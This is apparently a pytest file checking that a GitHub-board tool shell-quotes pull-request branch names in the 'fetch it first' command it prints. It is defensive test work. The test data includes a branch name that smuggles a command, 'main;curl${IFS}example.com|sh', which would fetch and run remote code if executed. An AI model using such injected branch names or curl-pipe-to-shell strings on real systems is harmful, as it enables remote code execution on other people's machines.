"""Bypass class: the board's "fetch it first" command, pasted into a shell, runs what a pull
request's base branch name says."""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from gate.main import main
from testing.fakegithub import REPO, FakeGitHub
from testing.infra import infra_repo

MISSING = "ab" * 20


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGitHub]:
    with FakeGitHub() as server:
        monkeypatch.setenv("GITHUB_API_URL", server.url)
        monkeypatch.setenv("GITHUB_TOKEN", "token")
        yield server


def test_the_fetch_command_for_a_missing_base_quotes_the_branch_name(
    tmp_path: Path, fake: FakeGitHub, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = infra_repo(tmp_path / "my clone")
    branch = "main;curl${IFS}example.com|sh"  # git and GitHub accept `;`, `$`, `{`, `|`
    head = repo.git("rev-parse", "HEAD")
    fake.add_pull(3, head=head, base=MISSING, base_ref=branch)
    assert main(["board", "--github-repo", REPO, "--git", str(repo.path)]) == 2
    line = capsys.readouterr().err
    command = re.search(r"fetch it first: (.*)$", line, re.M)
    assert command is not None
    assert shlex.split(command.group(1)) == [
        "git", "-C", str(repo.path), "fetch", "origin", "pull/3/head", branch,
    ]  # fmt: skip
